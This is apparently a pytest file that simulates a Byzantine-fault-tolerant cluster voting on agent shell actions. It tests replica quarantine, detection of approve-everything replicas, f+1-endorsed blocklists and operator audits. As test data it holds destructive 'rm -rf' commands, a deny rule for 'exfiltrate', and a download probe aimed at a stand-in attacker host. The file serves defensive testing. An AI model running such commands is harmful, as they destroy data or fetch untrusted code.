"""In simulation, equivocators are quarantined from their evidence, approve-everything replicas are detected
(and isolated when enabled), and the shared blocklist needs f+1 endorsers, all at one log position everywhere.

Every scenario runs a seeded ``SimCluster`` over the real codec, checks the
spec's invariants on the correct replicas, and checks each verdict against what
the correct replicas' policies say.
"""

from __future__ import annotations

import json

import pytest

from bft.core import (AccountabilityOptions, ClientCore, Decision, KeyPair, Risk, endorsement_document,
                      operator_document)
from bft.policy import PolicyDecision
from bft.policies import ApproveEverything
from bft.testing import SimCluster
from harness._byzantine_replica import equivocating_prepares
from specs.invariants import check_sim

ALLOW, DENY = Decision.ALLOW, Decision.DENY
OPERATOR = KeyPair.from_seed(bytes(range(32)))


class DenyDangerous:
    """The correct replicas' policy here: deny any action whose text mentions "rm -rf" or "exfiltrate"."""

    name = "deny-dangerous"

    def evaluate(self, action, context) -> PolicyDecision:
        text = json.dumps(action)
        if "rm -rf" in text or "exfiltrate" in text:
            return PolicyDecision.deny("dangerous")
        return PolicyDecision.allow("fine")


def action(number: int) -> tuple[dict, Decision]:
    """The number-th action of a workload where every other one is dangerous, with the verdict it deserves."""
    if number % 2:
        return {"tool": "shell", "command": f"rm -rf /srv/{number}"}, DENY
    return {"tool": "shell", "command": f"ls /srv/{number}"}, ALLOW


def run_one(sim: SimCluster, client_id: str, document: dict, risk: Risk = Risk.LOW):
    request = sim.submit(client_id, document, risk)
    assert sim.run_until(sim.all_done, 20_000), "the cluster must answer"
    return request


def events_by_position(sim: SimCluster, replica_id: int, kind: str) -> list[tuple[int, dict]]:
    return [(entry.position, event) for entry in sim.finalized[replica_id] if entry.events
            for event in json.loads(entry.events) if event["event"] == kind]


def assert_same_entry_everywhere(sim: SimCluster, correct: set[int], position: int) -> None:
    entries = {sim.finalized[r][position - 1] for r in correct}
    assert len(entries) == 1, f"correct replicas logged different entries at position {position}"


@pytest.mark.parametrize("seed", [1, 2])
def test_an_equivocating_replica_is_quarantined_from_its_evidence_at_one_position_everywhere(seed: int) -> None:
    correct = {0, 1, 2}
    sim = SimCluster(4, seed=seed, policies={r: DenyDangerous() for r in range(4)}, interceptors={3: equivocating_prepares()})
    expected = {}
    for number in range(4):
        document, verdict = action(number)
        expected[run_one(sim, "client-0", document).key] = verdict
    quarantines = {r: events_by_position(sim, r, "quarantined") for r in correct}
    [(position, event)] = quarantines[0]
    assert all(found == quarantines[0] for found in quarantines.values())
    assert (event["replica"], event["cause"]) == (3, "evidence")
    assert_same_entry_everywhere(sim, correct, position)
    rebuilt_before = sim.replicas[2].accountability.status()
    sim.crash(2)  # A restarted replica rebuilds the quarantine from its durable log.
    sim.restart(2)
    assert sim.replicas[2].accountability.status() == rebuilt_before
    for number in range(4, 8):
        document, verdict = action(number)
        expected[run_one(sim, "client-0", document).key] = verdict
    for key, verdict in expected.items():
        certificate = sim.operations[key].certificate
        assert certificate.decision is verdict, (key, certificate.reason)
        certificate.verify(sim.config)
    after = [entry for entry in sim.finalized[0] if entry.position > position]
    assert after and all(entry.uncounted_voters == "3" for entry in after)
    caught_up = [r for r in correct if sim.replicas[r].last_executed == sim.replicas[0].last_executed]
    assert len({sim.replicas[r].execution.state_digest() for r in caught_up}) == 1
    assert check_sim(sim, correct) == []


@pytest.mark.parametrize("automatic", [False, True])
def test_the_approve_everything_replica_is_detected_and_isolated_only_when_enabled(automatic: bool) -> None:
    correct = {0, 1, 2, 3}
    options = AccountabilityOptions(auto_quarantine_suspects=automatic, suspicion_window_entries=40,
                                    suspicion_min_votes=10, suspicion_min_contested=5)
    policies = {r: DenyDangerous() for r in correct} | {4: ApproveEverything()}
    sim = SimCluster(5, seed=3, policies=policies, config_options={"accountability": options})
    expected = {}
    for number in range(24):
        document, verdict = action(number)
        expected[run_one(sim, "client-0", document).key] = verdict
    suspected = {r: events_by_position(sim, r, "suspected") for r in correct}
    [(position, event)] = suspected[0]
    assert all(found == suspected[0] for found in suspected.values())
    assert event["replica"] == 4 and event["reason"].startswith("approval rate 1000/1000")
    assert_same_entry_everywhere(sim, correct, position)
    quarantined = events_by_position(sim, 0, "quarantined")
    status = sim.replicas[0].accountability.status()
    assert [s["replica"] for s in status["suspects"]] == [4]
    if automatic:
        assert quarantined == [(position, {"event": "quarantined", "replica": 4, "cause": "suspicion",
                                           "by": "auto", "detail": event["reason"]})]
        assert [r["replica"] for r in status["quarantined"]] == [4]
    else:
        assert quarantined == [] and status["quarantined"] == []
    for key, verdict in expected.items():
        assert sim.operations[key].certificate.decision is verdict, key
    assert check_sim(sim, correct) == []


def test_blocklist_patterns_need_f_plus_1_endorsers_and_expire_in_simulation() -> None:
    correct = {0, 1, 2, 3}
    sim = SimCluster(4, seed=4, policies={r: DenyDangerous() for r in correct})
    for replica_id in (0, 1):
        sim.clients[f"replica:{replica_id}"] = ClientCore(sim.config, f"replica:{replica_id}",
                                                          sim.replica_seeds[replica_id])
    everything = run_one(sim, "replica:0", endorsement_document(".*", 60_000))
    assert sim.verdict(everything) is DENY  # Malformed: every correct replica votes against it.
    lone = run_one(sim, "replica:0", endorsement_document("curl evil.example", 2_000))
    assert sim.verdict(lone) is ALLOW
    probe = {"tool": "shell", "command": "curl evil.example/x.sh -o /tmp/x"}
    assert sim.verdict(run_one(sim, "client-0", probe)) is ALLOW, "one endorser changes nothing"
    assert sim.verdict(run_one(sim, "replica:1", endorsement_document("CURL  evil.example", 2_000))) is ALLOW
    blocked = sim.operations[run_one(sim, "client-0", probe).key].certificate
    assert (blocked.decision, blocked.reason) == \
        (DENY, "blocklisted: the action matches the shared pattern 'curl evil.example'")
    blocked.verify(sim.config)
    assert sim.verdict(run_one(sim, "client-0", {"tool": "shell", "command": "ls"})) is ALLOW
    sim.run(2_500)
    assert sim.verdict(run_one(sim, "client-0", probe)) is ALLOW, "the pattern expired"
    changes = [(p, e["event"]) for p, e in events_by_position(sim, 0, "pattern-active")
               + events_by_position(sim, 0, "pattern-inactive")]
    assert [event for _, event in sorted(changes)] == ["pattern-active", "pattern-inactive"]
    for position, _ in changes:
        assert_same_entry_everywhere(sim, correct, position)
    assert check_sim(sim, correct) == []


def test_operator_quarantine_and_release_are_ordered_and_audited() -> None:
    correct = {0, 1, 2, 3}
    sim = SimCluster(4, seed=5, policies={r: DenyDangerous() for r in correct},
                     config_options={"operator_keys": {"alice": OPERATOR.public_key}})
    sim.clients["operator:alice"] = ClientCore(sim.config, "operator:alice", OPERATOR.seed)
    high = {"tool": "deploy", "target": "prod"}
    assert sim.verdict(run_one(sim, "operator:alice", operator_document("quarantine", 2, "INC-42"))) is ALLOW
    certificate = sim.operations[run_one(sim, "client-0", high, Risk.HIGH).key].certificate
    assert certificate.decision is ALLOW and certificate.uncounted_voters == (2,)
    certificate.verify(sim.config)
    assert sim.verdict(run_one(sim, "operator:alice", operator_document("release", 2))) is ALLOW
    assert sim.operations[run_one(sim, "client-0", high, Risk.HIGH).key].certificate.uncounted_voters == ()
    audit = [(e["event"], e["replica"]) for entry in sim.finalized[0] if entry.events
             for e in json.loads(entry.events)]
    assert audit == [("quarantined", 2), ("released", 2)]
    assert check_sim(sim, correct) == []
